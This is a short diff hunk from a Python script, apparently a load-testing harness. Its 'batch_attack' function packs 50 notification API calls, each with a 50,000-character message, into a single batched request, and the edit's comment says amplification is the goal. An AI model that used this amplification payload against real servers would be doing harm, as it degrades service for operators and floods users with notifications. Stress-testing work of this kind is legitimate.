@@ -138,7 +138,7 @@ def row(name, answer, worst, idle, peak, after):
 
 def batch_attack(server, scale):
     big = "x" * 50_000
-    n = max(2, int(50 * scale))
+    n = 50  # cheap to set up at any scale: the amplification is the point
     adds = "&".join(
         f"cmd[a{i}]=" + urllib.parse.quote(
             "im.notify.system.add?" + urllib.parse.urlencode({"USER_ID": 1, "MESSAGE": f"{i} {big}"}))
